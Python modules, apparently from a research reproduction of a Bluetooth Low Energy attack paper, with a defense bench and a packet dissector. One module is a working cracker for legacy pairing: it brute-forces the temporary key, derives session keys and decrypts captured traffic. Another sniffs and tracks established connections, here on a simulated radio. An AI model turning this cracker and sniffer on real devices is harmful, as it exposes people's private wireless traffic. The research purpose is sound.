from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from repro.core.sniffer import SniffedEvent
from repro.core.state import SniffedConnection
from repro.crypto.ccm import ccm_decrypt
from repro.crypto.pairing import c1, s1, session_key_from_skd
from repro.errors import AttackError, SecurityError
from repro.host.l2cap import CID_SMP, l2cap_decode
from repro.host.smp import (
    OP_PAIRING_CONFIRM,
    OP_PAIRING_RANDOM,
    OP_PAIRING_REQUEST,
    OP_PAIRING_RESPONSE,
)
from repro.ll.pdu.control import EncReq, EncRsp, decode_control_pdu
from repro.ll.pdu.data import DataPdu


@dataclass
class PairingTranscript:
    """Everything a passive observer needs to attack legacy pairing.

    Wire-order byte strings throughout (the crypto layer reverses them).
    """

    preq: Optional[bytes] = None
    pres: Optional[bytes] = None
    initiator_confirm: Optional[bytes] = None
    responder_confirm: Optional[bytes] = None
    initiator_random: Optional[bytes] = None
    responder_random: Optional[bytes] = None
    initiator_address: Optional[bytes] = None
    responder_address: Optional[bytes] = None

    @property
    def complete(self) -> bool:
        """Whether the transcript suffices for a brute-force attempt."""
        return all(value is not None for value in (
            self.preq, self.pres, self.initiator_confirm,
            self.initiator_random, self.responder_random,
            self.initiator_address, self.responder_address,
        ))


@dataclass
class SessionMaterial:
    """The LL encryption-setup values (sniffable in plaintext)."""

    skd_m: Optional[int] = None
    iv_m: Optional[int] = None
    skd_s: Optional[int] = None
    iv_s: Optional[int] = None

    @property
    def complete(self) -> bool:
        """Whether both halves were captured."""
        return all(value is not None for value in (
            self.skd_m, self.iv_m, self.skd_s, self.iv_s))


def _confirm_for_tk(tk: bytes, rand_wire: bytes,
                    transcript: PairingTranscript) -> bytes:
    # The SMP layer carries randoms and confirm values in c1's own order;
    # PDUs and addresses are wire-order (LSB first) and must be reversed.
    assert transcript.preq and transcript.pres
    assert transcript.initiator_address and transcript.responder_address
    return c1(
        tk, rand_wire, transcript.preq[::-1], transcript.pres[::-1],
        0, 0, transcript.initiator_address[::-1],
        transcript.responder_address[::-1],
    )


def crack_tk(transcript: PairingTranscript, max_pin: int = 999_999
             ) -> Optional[int]:
    """Brute-force the temporary key; returns the PIN (0 for Just Works).

    Tests the initiator's confirm value against every candidate PIN.
    Pure-Python AES makes a full 6-digit sweep slow; the interesting
    real-world cases (Just Works TK = 0, short PINs) fall out instantly.
    """
    if not transcript.complete:
        raise AttackError("pairing transcript incomplete")
    assert transcript.initiator_random is not None
    for pin in range(max_pin + 1):
        tk = pin.to_bytes(16, "big")
        confirm = _confirm_for_tk(tk, transcript.initiator_random, transcript)
        if confirm == transcript.initiator_confirm:
            return pin
    return None


def stk_from_pin(transcript: PairingTranscript, pin: int) -> bytes:
    """Derive the STK once the PIN is known."""
    assert transcript.initiator_random and transcript.responder_random
    tk = pin.to_bytes(16, "big")
    return s1(tk, transcript.responder_random, transcript.initiator_random)


class PairingSniffer:
    """Collects the SMP transcript and LL session material from sniffing.

    Attach via ``attacker.sniffer.on_event`` (chaining any previous hook),
    or feed :class:`SniffedEvent` objects manually.
    """

    def __init__(self, conn: SniffedConnection):
        self.conn = conn
        self.transcript = PairingTranscript()
        self.session = SessionMaterial()
        if conn.master_address is not None:
            self.transcript.initiator_address = conn.master_address.to_bytes()
        if conn.slave_address is not None:
            self.transcript.responder_address = conn.slave_address.to_bytes()

    # ------------------------------------------------------------------
    # Feeding
    # ------------------------------------------------------------------

    def on_event(self, event: SniffedEvent) -> None:
        """Consume one sniffed connection event."""
        if event.master_pdu is not None:
            self._consume(event.master_pdu, from_master=True)
        if event.slave_pdu is not None:
            self._consume(event.slave_pdu, from_master=False)

    def _consume(self, pdu: DataPdu, from_master: bool) -> None:
        if pdu.is_control and len(pdu.payload) > 0:
            self._consume_control(pdu.payload)
            return
        if len(pdu.payload) == 0:
            return
        try:
            cid, payload = l2cap_decode(pdu.payload)
        except Exception:
            return
        if cid != CID_SMP or not payload:
            return
        self._consume_smp(payload, from_master)

    def _consume_smp(self, payload: bytes, from_master: bool) -> None:
        opcode = payload[0]
        t = self.transcript
        if opcode == OP_PAIRING_REQUEST:
            t.preq = payload
        elif opcode == OP_PAIRING_RESPONSE:
            t.pres = payload
        elif opcode == OP_PAIRING_CONFIRM:
            if from_master:
                t.initiator_confirm = payload[1:]
            else:
                t.responder_confirm = payload[1:]
        elif opcode == OP_PAIRING_RANDOM:
            if from_master:
                t.initiator_random = payload[1:]
            else:
                t.responder_random = payload[1:]

    def _consume_control(self, payload: bytes) -> None:
        try:
            control = decode_control_pdu(payload)
        except Exception:
            return
        if isinstance(control, EncReq):
            self.session.skd_m = control.skd_m
            self.session.iv_m = control.iv_m
        elif isinstance(control, EncRsp):
            self.session.skd_s = control.skd_s
            self.session.iv_s = control.iv_s


class SessionCracker:
    """Turns a cracked pairing into offline decryption of captured traffic.

    Args:
        pairing: completed :class:`PairingSniffer` state.
        max_pin: brute-force bound for :func:`crack_tk`.
    """

    def __init__(self, pairing: PairingSniffer, max_pin: int = 0):
        self.pairing = pairing
        self.max_pin = max_pin
        self.pin: Optional[int] = None
        self.stk: Optional[bytes] = None
        self.session_key: Optional[bytes] = None
        self._rx_counters = {True: 0, False: 0}

    def crack(self) -> bool:
        """Run the full chain: TK → STK → session key."""
        self.pin = crack_tk(self.pairing.transcript, self.max_pin)
        if self.pin is None:
            return False
        self.stk = stk_from_pin(self.pairing.transcript, self.pin)
        session = self.pairing.session
        if not session.complete:
            return False
        assert session.skd_m is not None and session.skd_s is not None
        self.session_key = session_key_from_skd(self.stk, session.skd_m,
                                                session.skd_s)
        return True

    def decrypt(self, pdu: DataPdu, from_master: bool) -> bytes:
        """Decrypt one captured encrypted PDU.

        Packet counters must be fed in capture order per direction, as the
        CCM nonce includes them.
        """
        if self.session_key is None:
            raise AttackError("session key not recovered yet (call crack())")
        session = self.pairing.session
        assert session.iv_m is not None and session.iv_s is not None
        iv = (session.iv_m.to_bytes(4, "little")
              + session.iv_s.to_bytes(4, "little"))
        counter = self._rx_counters[from_master]
        packed = counter | (int(from_master) << 39)
        nonce = packed.to_bytes(5, "little") + iv
        aad = bytes([pdu.header.to_bytes()[0] & 0b11100011])
        try:
            plaintext = ccm_decrypt(self.session_key, nonce, pdu.payload, aad)
        except SecurityError as exc:
            raise AttackError(f"decryption failed: {exc}") from exc
        self._rx_counters[from_master] += 1
        return plaintext
