"""Passive connection sniffing.

Two synchronisation paths, mirroring the related work the paper builds on
(§II, §V-C):

* **New connections** (Ryan 2013): camp on an advertising channel, capture
  CONNECT_REQ, and follow the hop sequence from its parameters.
* **Established connections** (Ryan 2013 / Cauquil 2017): detect a
  candidate access address on a data channel, recover CRCInit by running
  the CRC LFSR backwards over a captured frame, measure the hop interval
  from successive visits to one channel, and derive the hop increment from
  the inter-channel timing (CSA#1, full channel map).

Once synchronised the sniffer follows the connection event by event,
recording anchors and the Slave's SN/NESN — everything the injector needs.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, replace
from typing import Callable, Optional

from repro.errors import SnifferError
from repro.ll.access_address import ADVERTISING_ACCESS_ADDRESS
from repro.ll.connection import ConnectionParams
from repro.ll.csa1 import Csa1
from repro.ll.pdu.advertising import ConnectReq, decode_advertising_pdu
from repro.ll.pdu.control import (
    ChannelMapInd,
    ClockAccuracyReq,
    ClockAccuracyRsp,
    ConnectionUpdateInd,
    PhyUpdateInd,
    TerminateInd,
    decode_control_pdu,
)
from repro.ll.pdu.data import DataPdu
from repro.ll.pdu.frame import verify_crc
from repro.ll.timing import transmit_window
from repro.phy.crc import ADVERTISING_CRC_INIT, crc24, reverse_crc24_init
from repro.phy.signal import RadioFrame
from repro.sim.clock import SCA_FIELD_PPM
from repro.sim.events import Event
from repro.sim.simulator import Simulator
from repro.sim.transceiver import Transceiver
from repro.utils.units import SLOT_US

#: Extra listening margin around predicted anchors, µs.
_FOLLOW_MARGIN_US = 300.0
#: Gap separating two connection events in a single-channel capture, µs.
_EVENT_CLUSTER_GAP_US = 2_000.0
#: Consecutive silent events before we declare the connection lost.
_LOSS_THRESHOLD = 12


def modular_inverse(value: int, modulus: int = 37) -> int:
    """Multiplicative inverse modulo 37 (prime), for hop-increment recovery."""
    value %= modulus
    if value == 0:
        raise SnifferError("cannot invert 0 (same-channel revisit)")
    return pow(value, modulus - 2, modulus)


@dataclass
class SniffedEvent:
    """What the sniffer saw in one connection event."""

    event_count: int
    channel: int
    anchor_us: Optional[float] = None
    master_pdu: Optional[DataPdu] = None
    slave_pdu: Optional[DataPdu] = None
    master_frame_end_us: Optional[float] = None
    slave_start_us: Optional[float] = None


class _RecoveryStage(enum.Enum):
    AA_DETECTION = "aa-detection"
    CRC_RECOVERY = "crc-recovery"
    INTERVAL = "interval"
    INCREMENT = "increment"
    DONE = "done"


from repro.core.state import SniffedConnection  # noqa: E402  (cycle-free)


class ConnectionSniffer:
    """Follows BLE connections with a raw transceiver.

    Args:
        sim: owning simulator.
        radio: the attacker's transceiver (shared with the injector).
        assumed_master_sca_ppm: Master SCA assumed when recovering an
            established connection (CONNECT_REQ capture uses the real one).
    """

    def __init__(self, sim: Simulator, radio: Transceiver,
                 assumed_master_sca_ppm: float = 50.0,
                 use_csa2: bool = False):
        self.sim = sim
        self.radio = radio
        self.assumed_master_sca_ppm = assumed_master_sca_ppm
        #: Track CSA#2 connections (BLE 5.0).  In reality the algorithm is
        #: negotiated in the feature exchange the sniffer also observes;
        #: here it is a configuration flag.  Parameter *recovery* of
        #: established connections supports CSA#1 only (as the cited
        #: related work does; Cauquil's CSA#2 defeat is event-counter
        #: recovery, out of scope).
        self.use_csa2 = use_csa2
        self.connection: Optional[SniffedConnection] = None
        #: Called when synchronisation completes.
        self.on_synchronized: Optional[Callable[[SniffedConnection], None]] = None
        #: Called after each followed connection event.
        self.on_event: Optional[Callable[[SniffedEvent], None]] = None
        #: Called when the followed connection is lost / terminated.
        self.on_lost: Optional[Callable[[str], None]] = None
        self._events: list[Event] = []
        self._current: Optional[SniffedEvent] = None
        self._silent_events = 0
        self._target_aa: Optional[int] = None
        # Established-connection recovery state.
        self._stage: Optional[_RecoveryStage] = None
        self._aa_counts: dict[int, int] = {}
        self._crc_candidate: Optional[int] = None
        self._probe_channel = 0
        self._visit_times: list[float] = []
        self._increment_first: Optional[tuple[int, float]] = None
        self._recovered_interval: Optional[int] = None
        self.following = False
        self.paused = False
        metrics = sim.metrics
        self._metrics = metrics
        self._m_events = metrics.counter("sniffer.events")
        self._m_missed = metrics.counter("sniffer.missed_events")
        self._m_anchors = metrics.counter("sniffer.anchors")
        #: Observed-minus-predicted anchor time: the drift the window
        #: widening has to absorb (paper eq. 5) — negative = frame early.
        self._m_drift = metrics.histogram(
            "sniffer.anchor_drift_us",
            buckets=(-200.0, -100.0, -50.0, -20.0, -10.0, -5.0, -2.0, 0.0,
                     2.0, 5.0, 10.0, 20.0, 50.0, 100.0, 200.0))

    # ------------------------------------------------------------------
    # Scheduling helpers
    # ------------------------------------------------------------------

    def _schedule(self, time_us: float, handler, label: str) -> Event:
        event = self.sim.schedule_at(max(time_us, self.sim.now), handler, label)
        self._events.append(event)
        if len(self._events) > 64:
            # Amortised compaction: fired and cancelled handles are
            # inert (cancel() on them is a no-op), so dropping them
            # lazily keeps this O(1) per call instead of O(n).
            self._events = [e for e in self._events if e.pending]
        return event

    def cancel(self) -> None:
        """Stop all sniffer activity."""
        for event in self._events:
            event.cancel()
        self._events.clear()
        self.following = False

    # ------------------------------------------------------------------
    # Mode 1: capture CONNECT_REQ
    # ------------------------------------------------------------------

    def sniff_new_connections(self, adv_channel: int = 37) -> None:
        """Camp on an advertising channel waiting for a CONNECT_REQ."""
        self._stage = None
        self.radio.on_frame = self._on_adv_frame
        self.radio.listen(adv_channel)

    def _on_adv_frame(self, frame: RadioFrame, rssi_dbm: float) -> None:
        if frame.access_address != ADVERTISING_ACCESS_ADDRESS:
            return
        if not verify_crc(frame, ADVERTISING_CRC_INIT):
            return
        try:
            pdu = decode_advertising_pdu(frame.pdu)
        except Exception:
            return
        if not isinstance(pdu, ConnectReq):
            return
        params = ConnectionParams.from_ll_data(pdu.ll_data,
                                               use_csa2=self.use_csa2)
        conn = SniffedConnection(params)
        conn.master_address = pdu.init_addr
        conn.slave_address = pdu.adv_addr
        self.connection = conn
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.radio.name, "sniff-connreq",
                                  aa=params.access_address,
                                  interval=params.interval)
        # First data channel and transmit window (paper eq. 1).
        conn.current_channel = self._first_channel(conn)
        window = transmit_window(frame.end_us, params.win_offset,
                                 params.win_size)
        self._start_following(window.start_us - _FOLLOW_MARGIN_US,
                              window.end_us + _FOLLOW_MARGIN_US)

    @staticmethod
    def _first_channel(conn: SniffedConnection) -> int:
        if isinstance(conn.selector, Csa1):
            return conn.selector.next_channel()
        return conn.selector.channel_for_event(0)

    # ------------------------------------------------------------------
    # Mode 2: recover an established connection
    # ------------------------------------------------------------------

    def recover_established(self, probe_channel: int = 0) -> None:
        """Start the AA/CRCInit/interval/increment recovery pipeline."""
        self._stage = _RecoveryStage.AA_DETECTION
        self._probe_channel = probe_channel
        self._aa_counts.clear()
        self._visit_times.clear()
        self._increment_first = None
        self.radio.on_frame = self._on_recovery_frame
        self.radio.listen(probe_channel)

    def _on_recovery_frame(self, frame: RadioFrame, rssi_dbm: float) -> None:
        if frame.access_address == ADVERTISING_ACCESS_ADDRESS:
            return
        if self._stage is _RecoveryStage.AA_DETECTION:
            self._aa_counts[frame.access_address] = (
                self._aa_counts.get(frame.access_address, 0) + 1
            )
            if self._aa_counts[frame.access_address] >= 2:
                self._target_aa = frame.access_address
                self._stage = _RecoveryStage.CRC_RECOVERY
                if self.sim.trace.enabled:
                    self.sim.trace.record(self.sim.now, self.radio.name,
                                          "sniff-aa-found", aa=self._target_aa)
            return
        if frame.access_address != self._target_aa:
            return
        if self._stage is _RecoveryStage.CRC_RECOVERY:
            if frame.corrupted:
                return
            candidate = reverse_crc24_init(frame.pdu, frame.crc)
            if self._crc_candidate is None:
                self._crc_candidate = candidate
            elif candidate == self._crc_candidate:
                self._stage = _RecoveryStage.INTERVAL
                if self.sim.trace.enabled:
                    self.sim.trace.record(self.sim.now, self.radio.name,
                                          "sniff-crcinit", crc_init=candidate)
                self._note_visit(frame)
            else:
                self._crc_candidate = candidate
            return
        if self._stage is _RecoveryStage.INTERVAL:
            self._note_visit(frame)
            if len(self._visit_times) >= 2:
                delta = self._visit_times[-1] - self._visit_times[-2]
                interval = max(6, round(delta / (37 * SLOT_US)))
                self._recovered_interval = interval
                self._stage = _RecoveryStage.INCREMENT
                self._increment_first = (self._probe_channel, self._visit_times[-1])
                next_channel = (self._probe_channel + 1) % 37
                self.radio.listen(next_channel)
                if self.sim.trace.enabled:
                    self.sim.trace.record(self.sim.now, self.radio.name,
                                          "sniff-interval", interval=interval)
            return
        if self._stage is _RecoveryStage.INCREMENT:
            if self._is_new_event_start(frame):
                assert self._increment_first is not None
                assert self._recovered_interval is not None
                _, t_first = self._increment_first
                delta_events = round(
                    (frame.start_us - t_first)
                    / (self._recovered_interval * SLOT_US)
                )
                try:
                    hop = modular_inverse(delta_events % 37)
                except SnifferError:
                    return  # pathological timing; wait for the next visit
                if not 5 <= hop <= 16:
                    return
                self._finish_recovery(frame, hop)

    def _note_visit(self, frame: RadioFrame) -> None:
        if self._is_new_event_start(frame):
            self._visit_times.append(frame.start_us)

    def _is_new_event_start(self, frame: RadioFrame) -> bool:
        # A Master frame opens each event; cluster by time gap so the
        # Slave's response 150 µs later is not counted as a new visit.
        last = self._visit_times[-1] if self._visit_times else None
        if self._stage is _RecoveryStage.INCREMENT:
            last = (self._increment_first[1]
                    if self._increment_first is not None else None)
            if last is not None and frame.start_us - last < _EVENT_CLUSTER_GAP_US:
                return False
            return True
        return last is None or frame.start_us - last > _EVENT_CLUSTER_GAP_US

    def _finish_recovery(self, frame: RadioFrame, hop: int) -> None:
        assert self._target_aa is not None
        assert self._crc_candidate is not None
        assert self._recovered_interval is not None
        channel = frame.channel
        params = ConnectionParams(
            access_address=self._target_aa,
            crc_init=self._crc_candidate,
            win_size=1,
            win_offset=0,
            interval=self._recovered_interval,
            latency=0,
            timeout=600,
            channel_map=(1 << 37) - 1,
            hop_increment=hop,
            master_sca_ppm=self.assumed_master_sca_ppm,
        )
        conn = SniffedConnection(params)
        # Position the selector on the channel we just heard (full map:
        # mapped == unmapped).
        conn.selector = Csa1(hop, params.channel_map, last_unmapped=channel)
        conn.current_channel = channel
        conn.note_anchor(frame.start_us)
        self.connection = conn
        self._stage = _RecoveryStage.DONE
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.radio.name, "sniff-recovered",
                                  aa=self._target_aa, hop=hop,
                                  interval=self._recovered_interval)
        # The current event is in progress; follow from the next one.
        self._current = SniffedEvent(conn.event_count, channel,
                                     anchor_us=frame.start_us)
        self.radio.on_frame = self._on_follow_frame
        self.following = True
        self._schedule(frame.end_us + 600.0, self._event_window_closed,
                       "sniff-first-close")

    # ------------------------------------------------------------------
    # Following
    # ------------------------------------------------------------------

    def _start_following(self, open_us: float, close_us: float) -> None:
        conn = self.connection
        assert conn is not None
        self.following = True
        self._silent_events = 0
        self.radio.on_frame = self._on_follow_frame
        self._current = SniffedEvent(conn.event_count, conn.current_channel or 0)
        self._schedule(open_us,
                       lambda: self._listen_if_following(conn.current_channel or 0),
                       "sniff-open")
        self._schedule(close_us, self._event_window_closed, "sniff-close")
        if self.on_synchronized is not None:
            self.on_synchronized(conn)

    def _listen_if_following(self, channel: int) -> None:
        if self.following and not self.paused:
            if self.connection is not None:
                self.radio.rx_phy = self.connection.phy
            self.radio.listen(channel)

    def _on_follow_frame(self, frame: RadioFrame, rssi_dbm: float) -> None:
        conn = self.connection
        if conn is None or not self.following or self.paused:
            return
        if frame.access_address != conn.params.access_address:
            return
        current = self._current
        if current is None:
            return
        if current.anchor_us is None:
            if self._metrics.enabled:
                self._m_anchors.inc()
                try:
                    self._m_drift.observe(
                        frame.start_us - conn.predicted_anchor_us())
                except SnifferError:
                    pass  # first anchor: nothing predicted yet
            current.anchor_us = frame.start_us
            current.master_frame_end_us = frame.end_us
            conn.note_anchor(frame.start_us)
            if verify_crc(frame, conn.params.crc_init):
                pdu = DataPdu.from_bytes(frame.pdu)
                current.master_pdu = pdu
                conn.master_bits.sn = pdu.header.sn
                conn.master_bits.nesn = pdu.header.nesn
                conn.master_bits.seen = True
                self._observe_master_payload(pdu)
        else:
            current.slave_start_us = frame.start_us
            if verify_crc(frame, conn.params.crc_init):
                pdu = DataPdu.from_bytes(frame.pdu)
                current.slave_pdu = pdu
                conn.slave_bits.sn = pdu.header.sn
                conn.slave_bits.nesn = pdu.header.nesn
                conn.slave_bits.seen = True

    def _observe_master_payload(self, pdu: DataPdu) -> None:
        conn = self.connection
        assert conn is not None
        if not pdu.is_control or len(pdu.payload) == 0:
            return
        try:
            control = decode_control_pdu(pdu.payload)
        except Exception:
            return
        if isinstance(control, ConnectionUpdateInd):
            conn.observe_update(control)
        elif isinstance(control, ChannelMapInd):
            conn.observe_channel_map(control)
        elif isinstance(control, ClockAccuracyReq):
            # The Master just leaked its SCA (paper §V-C).
            conn.params = replace(conn.params,
                                  master_sca_ppm=SCA_FIELD_PPM[control.sca & 7])
        elif isinstance(control, PhyUpdateInd):
            conn.observe_phy_update(control)
        elif isinstance(control, TerminateInd):
            self._lost("terminated")

    def _event_window_closed(self) -> None:
        conn = self.connection
        if conn is None or not self.following:
            return
        current = self._current
        if current is not None:
            if self._metrics.enabled:
                self._m_events.inc()
                if current.anchor_us is None:
                    self._m_missed.inc()
            if current.anchor_us is None:
                self._silent_events += 1
            else:
                self._silent_events = 0
            if self.on_event is not None:
                self.on_event(current)
        if not self.following:
            return  # a callback handed the radio over (e.g. to the injector)
        if self._silent_events >= _LOSS_THRESHOLD:
            self._lost("signal lost")
            return
        self.schedule_next_event()

    def schedule_next_event(self) -> None:
        """Advance to the next event and arm the listening window."""
        conn = self.connection
        assert conn is not None
        channel = conn.advance_event()
        self._current = SniffedEvent(conn.event_count, channel)
        try:
            predicted = conn.predicted_anchor_us()
            widen = conn.estimated_widening_us()
        except SnifferError:
            self._lost("never synchronised")
            return
        open_us = predicted - widen - _FOLLOW_MARGIN_US
        close_us = predicted + widen + _FOLLOW_MARGIN_US + 700.0
        self._schedule(open_us, lambda: self._listen_if_following(channel),
                       "sniff-open")
        self._schedule(close_us, self._event_window_closed, "sniff-close")

    def _lost(self, reason: str) -> None:
        self.following = False
        if self.connection is not None:
            self.connection.alive = False
        self.cancel()
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, self.radio.name, "sniff-lost",
                                  reason=reason)
        if self.on_lost is not None:
            self.on_lost(reason)
