"""ROC/AUC and detection-latency computation for the defense bench.

The bench's primitive is a per-trial *max score* per detector (see
:meth:`repro.defense.bank.DetectorBank.summaries`): attack trials are
the positive class, benign and dense-RF-ambient trials the negative
class.  Everything here is exact integer/rational arithmetic over those
scores — no sampling, no randomness — so reports are reproducible
byte-for-byte.
"""

from __future__ import annotations

from typing import List, Optional, Sequence, Tuple

from repro.defense.api import ALERT_SCORE


def auc(positives: Sequence[float],
        negatives: Sequence[float]) -> Optional[float]:
    """Area under the ROC curve via the Mann-Whitney U statistic.

    ``P(score_pos > score_neg)`` with ties counted half — identical to
    integrating the empirical ROC curve, without having to build it.
    Returns ``None`` when either class is empty (AUC undefined).
    """
    if not positives or not negatives:
        return None
    wins = 0.0
    for p in positives:
        for n in negatives:
            if p > n:
                wins += 1.0
            elif p == n:
                wins += 0.5
    return wins / (len(positives) * len(negatives))


def roc_points(positives: Sequence[float], negatives: Sequence[float]
               ) -> List[Tuple[float, float, float]]:
    """The empirical ROC curve as ``(threshold, fpr, tpr)`` points.

    One point per distinct observed score (threshold = "alert when score
    >= t"), from the most permissive threshold to the strictest, plus
    the trivial (1, 1) and (0, 0) endpoints.
    """
    thresholds = sorted(set(positives) | set(negatives))
    points: List[Tuple[float, float, float]] = [(float("-inf"), 1.0, 1.0)]
    for t in thresholds:
        points.append((t, false_positive_rate(negatives, t),
                       true_positive_rate(positives, t)))
    points.append((float("inf"), 0.0, 0.0))
    return points


def true_positive_rate(positives: Sequence[float],
                       threshold: float = ALERT_SCORE) -> Optional[float]:
    """Fraction of positive trials scoring at or above ``threshold``."""
    if not positives:
        return None
    return sum(1 for s in positives if s >= threshold) / len(positives)


def false_positive_rate(negatives: Sequence[float],
                        threshold: float = ALERT_SCORE) -> Optional[float]:
    """Fraction of negative trials scoring at or above ``threshold``."""
    if not negatives:
        return None
    return sum(1 for s in negatives if s >= threshold) / len(negatives)


def latency_curve(latencies_us: Sequence[float], total: int
                  ) -> List[Tuple[float, float]]:
    """Cumulative detection-latency curve.

    Args:
        latencies_us: first-alert latencies of the detected trials.
        total: number of trials that *should* have been detected (the
            curve plateaus below 1.0 when some were missed).

    Returns:
        ``(latency_us, fraction detected within it)`` per distinct
        latency, ascending.
    """
    if total <= 0:
        return []
    points: List[Tuple[float, float]] = []
    detected = 0
    for latency in sorted(latencies_us):
        detected += 1
        if points and points[-1][0] == latency:
            points[-1] = (latency, detected / total)
        else:
            points.append((latency, detected / total))
    return points


def quantile(values: Sequence[float], q: float) -> Optional[float]:
    """Nearest-rank quantile (``q`` in [0, 1]) of ``values``."""
    if not values:
        return None
    ordered = sorted(values)
    index = min(len(ordered) - 1, max(0, int(q * len(ordered))))
    return ordered[index]
