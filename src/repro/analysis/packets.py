"""Packet capture and dissection over the simulated air.

A :class:`PacketCapture` taps the medium (like an SDR capture) and renders
a Wireshark-style dissection: advertising PDUs by name, data-channel
frames with their SN/NESN bits, LL control opcodes and ATT operations.
CRCInit per connection is learned from captured CONNECT_REQs, so payload
validity can be checked exactly; connections whose setup was missed are
still listed with raw bytes.

Used by examples and debugging sessions; the renderer is deliberately
plain text so captures diff cleanly in tests.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from repro.host.att.pdus import decode_att_pdu
from repro.host.gap import local_name_of
from repro.host.l2cap import CID_ATT, CID_SMP, l2cap_decode
from repro.ll.access_address import ADVERTISING_ACCESS_ADDRESS
from repro.ll.pdu.advertising import (
    AdvInd,
    ConnectReq,
    ScanReq,
    ScanRsp,
    decode_advertising_pdu,
)
from repro.ll.pdu.control import decode_control_pdu
from repro.ll.pdu.data import DataPdu
from repro.phy.crc import ADVERTISING_CRC_INIT, crc24
from repro.phy.signal import RadioFrame
from repro.sim.medium import Medium

#: Frames closer than this on one channel belong to one connection event.
_EVENT_GAP_US = 2_000.0


@dataclass
class CapturedPacket:
    """One dissected frame.

    Attributes:
        time_us: transmission start time.
        channel: RF channel.
        access_address: 32-bit AA.
        summary: one-line dissection.
        crc_ok: CRC verdict (None when CRCInit is unknown).
    """

    time_us: float
    channel: int
    access_address: int
    summary: str
    crc_ok: Optional[bool] = None

    def render(self) -> str:
        """Fixed-width single-line rendering."""
        crc = {True: "", False: "  [BAD CRC]", None: "  [CRC?]"}[self.crc_ok]
        return (f"{self.time_us / 1e6:12.6f}  ch{self.channel:02d}  "
                f"{self.summary}{crc}")


class PacketCapture:
    """Wideband capture + dissection of everything on the medium."""

    def __init__(self, medium: Medium):
        self.packets: list[CapturedPacket] = []
        self._crc_inits: dict[int, int] = {}
        self._last_master_frame: dict[int, float] = {}
        medium.add_tap(self._on_frame)

    # ------------------------------------------------------------------
    # Capture
    # ------------------------------------------------------------------

    def _on_frame(self, frame: RadioFrame) -> None:
        if frame.access_address == ADVERTISING_ACCESS_ADDRESS:
            packet = self._dissect_advertising(frame)
        else:
            packet = self._dissect_data(frame)
        self.packets.append(packet)

    def _dissect_advertising(self, frame: RadioFrame) -> CapturedPacket:
        crc_ok = crc24(frame.pdu, ADVERTISING_CRC_INIT) == frame.crc
        try:
            pdu = decode_advertising_pdu(frame.pdu)
        except Exception:
            return CapturedPacket(frame.start_us, frame.channel,
                                  frame.access_address,
                                  f"ADV ??? {frame.pdu.hex()}", crc_ok)
        if isinstance(pdu, AdvInd):
            name = local_name_of(pdu.adv_data)
            label = f" name={name!r}" if name else ""
            summary = f"ADV_IND       {pdu.adv_addr}{label}"
        elif isinstance(pdu, ScanReq):
            summary = f"SCAN_REQ      {pdu.scan_addr} -> {pdu.adv_addr}"
        elif isinstance(pdu, ScanRsp):
            summary = f"SCAN_RSP      {pdu.adv_addr}"
        elif isinstance(pdu, ConnectReq):
            ll = pdu.ll_data
            self._crc_inits[ll.access_address] = ll.crc_init
            summary = (f"CONNECT_REQ   {pdu.init_addr} -> {pdu.adv_addr} "
                       f"aa={ll.access_address:#010x} interval={ll.interval} "
                       f"hop={ll.hop_increment}")
        else:  # pragma: no cover - decode() limits the types above
            summary = f"ADV {type(pdu).__name__}"
        return CapturedPacket(frame.start_us, frame.channel,
                              frame.access_address, summary, crc_ok)

    def _dissect_data(self, frame: RadioFrame) -> CapturedPacket:
        aa = frame.access_address
        crc_init = self._crc_inits.get(aa)
        crc_ok = (crc24(frame.pdu, crc_init) == frame.crc
                  if crc_init is not None else None)
        direction = self._infer_direction(aa, frame)
        try:
            pdu = DataPdu.from_bytes(frame.pdu)
        except Exception:
            return CapturedPacket(frame.start_us, frame.channel, aa,
                                  f"DATA {direction} ??? {frame.pdu.hex()}",
                                  crc_ok)
        bits = f"SN={pdu.header.sn} NESN={pdu.header.nesn}"
        if pdu.is_empty:
            body = "empty PDU"
        elif pdu.is_control:
            body = self._dissect_control(pdu.payload)
        else:
            body = self._dissect_l2cap(pdu.payload)
        summary = f"DATA {direction} aa={aa:#010x} {bits}  {body}"
        return CapturedPacket(frame.start_us, frame.channel, aa, summary,
                              crc_ok)

    def _infer_direction(self, aa: int, frame: RadioFrame) -> str:
        last = self._last_master_frame.get(aa)
        if last is None or frame.start_us - last > _EVENT_GAP_US:
            self._last_master_frame[aa] = frame.start_us
            return "M->S"
        return "S->M"

    @staticmethod
    def _dissect_control(payload: bytes) -> str:
        try:
            control = decode_control_pdu(payload)
        except Exception:
            return f"LL ??? {payload.hex()}"
        return f"LL {type(control).__name__} {control!r}"

    @staticmethod
    def _dissect_l2cap(payload: bytes) -> str:
        try:
            cid, inner = l2cap_decode(payload)
        except Exception:
            return f"enc/frag {payload.hex()}"
        if cid == CID_ATT:
            try:
                att = decode_att_pdu(inner)
                return f"ATT {type(att).__name__} {att!r}"
            except Exception:
                return f"ATT ??? {inner.hex()}"
        if cid == CID_SMP:
            opcode = inner[0] if inner else 0
            names = {1: "PairingRequest", 2: "PairingResponse",
                     3: "PairingConfirm", 4: "PairingRandom",
                     5: "PairingFailed"}
            return f"SMP {names.get(opcode, f'op={opcode:#x}')}"
        return f"L2CAP cid={cid:#x} {inner.hex()}"

    # ------------------------------------------------------------------
    # Queries
    # ------------------------------------------------------------------

    def render(self, limit: Optional[int] = None) -> str:
        """Multi-line capture log."""
        packets = self.packets if limit is None else self.packets[:limit]
        return "\n".join(p.render() for p in packets)

    def matching(self, needle: str) -> list[CapturedPacket]:
        """Packets whose summary contains ``needle``."""
        return [p for p in self.packets if needle in p.summary]

    def __len__(self) -> int:
        return len(self.packets)
