"""Statistics and text rendering for experiment results."""

from repro.analysis.stats import BoxStats, box_stats
from repro.analysis.reporting import (
    render_distribution_table,
    render_metrics_table,
    render_roc_table,
    render_series,
)
from repro.analysis.roc import (
    auc,
    false_positive_rate,
    latency_curve,
    quantile,
    roc_points,
    true_positive_rate,
)

__all__ = [
    "BoxStats",
    "auc",
    "box_stats",
    "false_positive_rate",
    "latency_curve",
    "quantile",
    "render_distribution_table",
    "render_metrics_table",
    "render_roc_table",
    "render_series",
    "roc_points",
    "true_positive_rate",
]
