"""Statistics and text rendering for experiment results."""

from repro.analysis.stats import BoxStats, box_stats
